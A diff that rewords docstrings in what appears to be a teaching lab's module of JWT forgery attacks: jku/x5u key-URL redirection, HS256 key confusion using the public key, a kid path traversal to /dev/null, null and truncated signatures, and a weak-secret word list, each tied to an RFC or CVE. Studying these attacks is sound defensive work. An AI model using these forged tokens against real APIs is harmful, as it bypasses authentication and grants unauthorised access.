@@ -10,7 +10,7 @@ from scopekit.lab.grid.broken_states import PUBLIC_FILE, WORD, keys_in_files, ke
 from scopekit.lab.grid.forging import FORGER, compact, der, flipped, hs256, public_key_of, unsigned, with_signature
 
 WORDS = (b"secret", b"password", b"changeme", b"your-256-bit-secret", WORD)
-"""The beginning of a word list; the last word is long enough for HS256, and every list has it."""
+"""The beginning of a word list; the last word is long enough for HS256, and is in every list."""
 
 
 # A key that the forger chooses
@@ -23,13 +23,13 @@ def embedded_jwk(scene: Scene) -> str:
 
 @attack("jku", "form", "signature", source="RFC 8725 section 3.10")
 def jku(scene: Scene) -> str:
-    """The header says where to fetch the key: from the forger. The API would fetch any address the forger likes."""
+    """The header tells the API to fetch the key from the forger, so the forger can make the API call any address."""
     return compact(scene.header | {"jku": f"{ELSEWHERE}keys.json"}, scene.forged, FORGER)
 
 
 @attack("x5u", "form", "signature", source="RFC 8725 section 3.10")
 def x5u(scene: Scene) -> str:
-    """The header says where to fetch the key's certificate: from the forger."""
+    """The header tells the API to fetch the key's certificate from the forger."""
     return compact(scene.header | {"x5u": f"{ELSEWHERE}key.pem"}, scene.forged, FORGER)
 
 
@@ -58,7 +58,7 @@ def alg_none_spelt(scene: Scene) -> str:
 
 @attack("key confusion, exposed key", "algorithm", source="CVE-2015-9235", on=PAIRS)
 def key_confusion(scene: Scene) -> str:
-    """HS256 with the public key's text as its secret, which everybody knows."""
+    """HS256 with the public key's text, which everybody knows, as its secret."""
     return hs256(scene.header | {"alg": "HS256"}, scene.forged, scene.key.public().material)
 
 
@@ -66,8 +66,8 @@ def key_confusion(scene: Scene) -> str:
 def key_confusion_derived(scene: Scene) -> str:
     """HS256 with a public key that is published nowhere: two genuine signatures reveal it.
 
-    With ES256 that takes a moment. With RS256 it is the greatest common divisor of two numbers of 130 million bits,
-    too much for a lesson in plain Python.
+    With ES256, this takes a moment. With RS256, it takes the greatest common divisor of two numbers of 130 million
+    bits, too much for a lesson in plain Python.
     """
     return hs256(scene.header | {"alg": "HS256"}, scene.forged, public_key_of(scene.good, scene.minted(scene.needed)))
 
@@ -85,7 +85,7 @@ def kid_path(scene: Scene) -> str:
 
 @attack("kid: /dev/null", rule=f"{NAME}, and a key is never empty", source="RFC 8725 section 3.10")
 def kid_dev_null(scene: Scene) -> str:
-    """The kid leads to a file that is always empty, and so is the secret."""
+    """The kid leads to a file that is always empty, so the secret is empty too."""
     return hs256(scene.header | {"kid": "../../dev/null"}, scene.forged, b"")
 
 
@@ -123,13 +123,13 @@ def blank_signature(scene: Scene) -> str:
 
 @attack("null signature", "signature", source="CVE-2020-28042")
 def null_signature(scene: Scene) -> str:
-    """One zero byte, which ends a text in some languages: there the comparison ends too."""
+    """One zero byte, which ends a text in some languages, so their comparison stops there."""
     return unsigned(scene.header, scene.forged, b"\0")
 
 
 @attack("truncated signature", "signature", source="CVE-2020-28042")
 def truncated_signature(scene: Scene) -> str:
-    """The first byte of a signature, for an API that compares only as far as the shorter one goes."""
+    """The first byte of a signature, for an API that compares only the length of the shorter one."""
     return with_signature(scene.good, scene.good.signature[:1])
 
 
